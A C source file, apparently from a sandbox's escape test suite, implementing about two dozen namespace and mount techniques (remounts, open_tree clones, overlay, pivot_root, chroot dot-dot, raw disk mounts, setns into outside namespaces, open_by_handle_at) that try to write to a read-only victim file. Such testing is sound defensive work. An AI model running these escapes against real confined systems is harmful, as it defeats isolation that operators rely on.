/*
 * Mounts and namespaces that could make the read-only tree writable again, or lead back to where
 * it never was read-only. Each trick ends with a plain write to the victim, done whether or not
 * the trick's own steps succeeded: without confinement that write works, so the control shows no
 * more than that the victim can be written; confined it works only if the trick did.
 *
 * Nothing is mounted in the host's mount namespace: see escape_take_mounts.
 */
#define _GNU_SOURCE
#include "families.h"
#include "inside.h"
#include "outside.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *proc_ns(struct escape_ctx *c, const char *which)
{
  static char path[64];

  snprintf(path, sizeof path, "/proc/%d/ns/%s", (int)c->helper, which);
  return path;
}

/* Mount point of the victim, by the longest name in mountinfo. */
static void mount_point(struct escape_ctx *c, char *at, size_t size)
{
  char line[4096], point[2048];
  FILE *f = fopen("/proc/self/mountinfo", "re");
  size_t best = 0;

  snprintf(at, size, "/");
  while (f && fgets(line, sizeof line, f)) {
    if (sscanf(line, "%*d %*d %*s %*s %2047s", point) != 1)
      continue;
    size_t n = strlen(point);
    if (n > best && n < size && strncmp(point, c->victim, n) == 0 && c->victim[n] == '/') {
      memcpy(at, point, n + 1);
      best = n;
    }
  }
  if (f)
    fclose(f);
}

static void remount(struct escape_ctx *c)
{
  char at[ESCAPE_PATH];

  mount_point(c, at, sizeof at);
  mount(NULL, at, NULL, MS_REMOUNT | MS_BIND, NULL);
  mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
}

ATTEMPT(a_remount)
{
  if (escape_take_mounts(c, false) == 0)
    remount(c);
  return escape_write_victim(c);
}

ATTEMPT(a_user_remount)
{
  if (escape_take_mounts(c, true) == 0)
    remount(c);
  return escape_write_victim(c);
}

static void set_writable(struct escape_ctx *c)
{
  const struct abi_mount_attr attr = {.clear = ABI_MOUNT_ATTR_RDONLY};
  char at[ESCAPE_PATH];

  mount_point(c, at, sizeof at);
  syscall(SYS_mount_setattr, AT_FDCWD, at, 0, &attr, sizeof attr);
  syscall(SYS_mount_setattr, AT_FDCWD, "/", ABI_AT_RECURSIVE, &attr, sizeof attr);
}

ATTEMPT(a_setattr)
{
  if (escape_take_mounts(c, false) == 0)
    set_writable(c);
  return escape_write_victim(c);
}

ATTEMPT(a_user_setattr)
{
  if (escape_take_mounts(c, true) == 0)
    set_writable(c);
  return escape_write_victim(c);
}

/* A clone of the victim's tree, made writable while nobody sees it. */
static void cloned_tree(struct escape_ctx *c, unsigned flags)
{
  const struct abi_mount_attr attr = {.clear = ABI_MOUNT_ATTR_RDONLY};
  int tree = (int)syscall(SYS_open_tree, AT_FDCWD, c->victim, ABI_OPEN_TREE_CLONE | flags);

  syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH | flags, &attr, sizeof attr);
  int fd = openat(tree, "new", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd < 0) {
    syscall(SYS_move_mount, tree, "", AT_FDCWD, c->victim, ABI_MOVE_MOUNT_F_EMPTY_PATH);
    return;
  }
  (void)!write(fd, "escaped\n", 8);
  close(fd);
}

ATTEMPT(a_open_tree)
{
  if (escape_take_mounts(c, false) == 0)
    cloned_tree(c, 0);
  return escape_write_victim(c);
}

ATTEMPT(a_user_open_tree)
{
  if (escape_take_mounts(c, true) == 0)
    cloned_tree(c, ABI_AT_RECURSIVE);
  return escape_write_victim(c);
}

ATTEMPT(a_open_tree_attr)
{
  const struct abi_mount_attr attr = {.clear = ABI_MOUNT_ATTR_RDONLY};

  if (escape_take_mounts(c, geteuid() != 0) == 0) {
    int tree = (int)syscall(SYS_open_tree_attr, AT_FDCWD, c->victim,
                            ABI_OPEN_TREE_CLONE | ABI_AT_RECURSIVE, &attr, sizeof attr);
    syscall(SYS_move_mount, tree, "", AT_FDCWD, c->victim, ABI_MOVE_MOUNT_F_EMPTY_PATH);
    int fd = openat(tree, "new", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd >= 0)
      close(fd);
  }
  return escape_write_victim(c);
}

static void bind_onto(struct escape_ctx *c)
{
  const char *at = "/dev/shm";

  if (mount(c->victim, at, NULL, MS_BIND, NULL) < 0) {
    at = "/tmp";
    if (mount(c->victim, at, NULL, MS_BIND, NULL) < 0)
      return;
  }
  mount(NULL, at, NULL, MS_REMOUNT | MS_BIND, NULL);
  escape_scribble(escape_in(at, "new"), O_CREAT);
}

ATTEMPT(a_bind)
{
  if (escape_take_mounts(c, false) == 0)
    bind_onto(c);
  return escape_write_victim(c);
}

ATTEMPT(a_user_bind)
{
  if (escape_take_mounts(c, true) == 0)
    bind_onto(c);
  return escape_write_victim(c);
}

static void overlay(struct escape_ctx *c)
{
  char options[ESCAPE_PATH * 4];

  /* upper and work directory both in the victim: what the overlay writes lands there */
  snprintf(options, sizeof options, "lowerdir=/usr/share,upperdir=%s/dir,workdir=%s/empty",
           c->victim, c->victim);
  if (mount("overlay", "/tmp", "overlay", 0, options) == 0)
    escape_scribble("/tmp/new", O_CREAT);
}

ATTEMPT(a_overlay)
{
  if (escape_take_mounts(c, geteuid() != 0) == 0)
    overlay(c);
  return escape_write_victim(c);
}

static void off_with_mounts(struct escape_ctx *c)
{
  char at[ESCAPE_PATH];

  mount_point(c, at, sizeof at);
  if (strcmp(at, "/") != 0)
    umount2(at, MNT_DETACH);
  umount2("/", MNT_DETACH);
}

ATTEMPT(a_umount)
{
  if (escape_take_mounts(c, geteuid() != 0) == 0)
    off_with_mounts(c);
  return escape_write_victim(c);
}

/* A private /tmp taken away shows the host's. */
PREPARE(p_tmp)
{
  snprintf(c->text, sizeof c->text, "/tmp/confine-escape-XXXXXX");
  return mkdtemp(c->text) ? 0 : -errno;
}

/* Where the host's /tmp is granted anyway there is nothing to take away: `before` tells. */
ATTEMPT(a_umount_tmp)
{
  escape_scribble(escape_in(c->text, "before"), O_CREAT);
  if (escape_take_mounts(c, geteuid() != 0) == 0)
    umount2("/tmp", MNT_DETACH);
  return escape_scribble(escape_in(c->text, "new"), O_CREAT);
}

JUDGE(j_tmp)
{
  if (access(escape_in(c->text, "new"), F_OK) < 0)
    return false;
  if (!c->control && access(escape_in(c->text, "before"), F_OK) == 0)
    return false;
  return escape_because(c, "%.60s/new was made on the host", c->text);
}

CLEANUP(c_tmp)
{
  if (strncmp(c->text, "/tmp/confine-escape-", 20) == 0)
    escape_remove_tree(c->text);
}

ATTEMPT(a_pivot)
{
  if (escape_take_mounts(c, geteuid() != 0) == 0 &&
      mount("none", "/tmp", "tmpfs", 0, NULL) == 0 && mkdir("/tmp/old", 0755) == 0 &&
      syscall(SYS_pivot_root, "/tmp", "/tmp/old") == 0 && chdir("/") == 0) {
    mount(NULL, "/old", NULL, MS_REMOUNT | MS_BIND, NULL);
    escape_scribble(escape_in("/old", c->file), 0);
    return chroot("/old") == 0 ? escape_write_victim(c) : -1;
  }
  return escape_write_victim(c);
}

/* The classic: a directory held open while the root moves below it, then up and up. */
ATTEMPT(a_chroot)
{
  int here = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
  int scratch = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);

  if (geteuid() != 0)
    escape_take_mounts(c, true);
  if (chroot(c->ws) == 0 && fchdir(scratch) == 0) {
    for (int i = 0; i < 64; i++)
      (void)!chdir("..");
    (void)!chroot(".");
  }
  close(here);
  return escape_write_victim(c);
}

ATTEMPT(a_fsopen)
{
  /* a second view of the file system that the victim lies on, by its device */
  struct stat st;
  char device[64];

  if (escape_take_mounts(c, false) < 0 || stat(c->victim, &st) < 0)
    return -1;
  snprintf(device, sizeof device, "/dev/block/%u:%u", major(st.st_dev), minor(st.st_dev));
  mknod("/dev/shm/confine-escape-disk", S_IFBLK | 0600, st.st_dev);
  const char *const sources[] = {device, "/dev/shm/confine-escape-disk", NULL};
  for (size_t i = 0; sources[i]; i++) {
    int fs = (int)syscall(SYS_fsopen, "ext4", 0);
    syscall(SYS_fsconfig, fs, 1, "source", sources[i], 0);
    if (syscall(SYS_fsconfig, fs, 6, NULL, NULL, 0) < 0)
      continue;
    int tree = (int)syscall(SYS_fsmount, fs, 0, 0);
    int fd = openat(tree, c->file + 1, O_WRONLY | O_CLOEXEC);
    if (fd >= 0)
      (void)!write(fd, "escaped\n", 8);
    break;
  }
  unlink("/dev/shm/confine-escape-disk");
  return escape_write_victim(c);
}

/* into an outside process's namespaces */

ATTEMPT(a_setns_mnt)
{
  setns(open(proc_ns(c, "mnt"), O_RDONLY | O_CLOEXEC), CLONE_NEWNS);
  return escape_write_victim(c);
}

ATTEMPT(a_setns_user)
{
  setns(open(proc_ns(c, "user"), O_RDONLY | O_CLOEXEC), CLONE_NEWUSER);
  setns(open(proc_ns(c, "mnt"), O_RDONLY | O_CLOEXEC), CLONE_NEWNS);
  return escape_write_victim(c);
}

ATTEMPT(a_setns_pidfd)
{
  int fd = (int)syscall(SYS_pidfd_open, c->helper, 0);

  setns(fd, CLONE_NEWNS | CLONE_NEWUSER);
  setns(fd, CLONE_NEWNS);
  return escape_write_victim(c);
}

ATTEMPT(a_setns_init)
{
  setns(open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC), CLONE_NEWNS);
  return escape_write_victim(c);
}

ATTEMPT(a_unshare_int80)
{
  long none = escape_low_str("none"), root = escape_low_str("/");

  if (INT80(I386_unshare, CLONE_NEWNS | CLONE_NEWUSER) == 0)
    INT80(I386_mount, none, root, none, MS_REMOUNT | MS_BIND, 0);
  return escape_write_victim(c);
}

/* the namespace made by clone, which a filter on unshare does not see */
ATTEMPT(a_clone_user)
{
  pid_t pid = (pid_t)syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0);

  if (pid == 0) {
    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
    remount(c);
    _exit(escape_write_victim(c) ? 1 : 0);
  }
  if (pid > 0)
    waitpid(pid, NULL, 0);
  return escape_write_victim(c);
}

/* file handles name files without their path; the workspace's mount is a writable one */
struct handle {
  uint32_t size;
  int32_t type;
  unsigned char bytes[128];
};

ATTEMPT(a_handle)
{
  struct handle h = {.size = sizeof h.bytes};
  const char *const mounts[] = {c->ws, "/", "/proc/self/cwd", NULL};
  int id;

  if (syscall(SYS_name_to_handle_at, AT_FDCWD, c->file, &h, &id, 0) < 0)
    return -1;
  for (size_t i = 0; mounts[i]; i++) {
    int on = open(mounts[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int fd = (int)syscall(SYS_open_by_handle_at, on, &h, O_WRONLY | O_CLOEXEC);
    if (fd >= 0 && write(fd, "escaped\n", 8) == 8)
      return 0;
  }
  return -1;
}

/* A directory's handle leads up: `..` of what it opens is not the workspace's. */
ATTEMPT(a_handle_directory)
{
  struct handle h = {.size = sizeof h.bytes};
  int id;

  if (syscall(SYS_name_to_handle_at, AT_FDCWD, c->victim, &h, &id, 0) < 0)
    return -1;
  int on = open(c->ws, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  int dir = (int)syscall(SYS_open_by_handle_at, on, &h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  int fd = openat(dir, "file", O_WRONLY | O_CLOEXEC);
  return fd >= 0 && write(fd, "escaped\n", 8) == 8 ? 0 : -1;
}

#define NS(id_, flags_, attempt_) \
  {.id = id_, .family = "namespace", .flags = flags_, .attempt = attempt_}
#define JOIN(id_, flags_, attempt_)            \
  {.id = id_,                                  \
   .family = "namespace",                     \
   .flags = ESCAPE_VIA_OUTSIDE | (flags_),    \
   .prepare = escape_with_bystander,          \
   .attempt = attempt_}

const struct escape_technique escape_namespace[] = {
    NS("remount", ESCAPE_ROOT_ONLY, a_remount),
    NS("user-remount", 0, a_user_remount),
    NS("mount-setattr", ESCAPE_ROOT_ONLY, a_setattr),
    NS("user-mount-setattr", 0, a_user_setattr),
    NS("open-tree", ESCAPE_ROOT_ONLY, a_open_tree),
    NS("user-open-tree", 0, a_user_open_tree),
    NS("open-tree-attr", 0, a_open_tree_attr),
    NS("bind", ESCAPE_ROOT_ONLY, a_bind),
    NS("user-bind", 0, a_user_bind),
    NS("overlay", 0, a_overlay),
    NS("umount", 0, a_umount),
    {.id = "umount-private-tmp",
     .family = "namespace",
     .prepare = p_tmp,
     .attempt = a_umount_tmp,
     .escaped = j_tmp,
     .cleanup = c_tmp},
    NS("pivot-root", 0, a_pivot),
    NS("chroot-dotdot", 0, a_chroot),
    NS("mount-disk", ESCAPE_ROOT_ONLY, a_fsopen),
    JOIN("setns-mount", 0, a_setns_mnt),
    JOIN("setns-user", 0, a_setns_user),
    JOIN("setns-pidfd", 0, a_setns_pidfd),
    NS("setns-init", ESCAPE_ROOT_ONLY, a_setns_init),
    NS("unshare-int80", 0, a_unshare_int80),
    NS("clone-user", 0, a_clone_user),
    NS("open-by-handle", ESCAPE_ROOT_ONLY, a_handle),
    {.id = "open-by-handle-directory",
     .family = "namespace",
     .flags = ESCAPE_ROOT_ONLY | ESCAPE_WORKSPACE_ONLY,
     .attempt = a_handle_directory},
};
const size_t escape_namespace_count = sizeof escape_namespace / sizeof *escape_namespace;
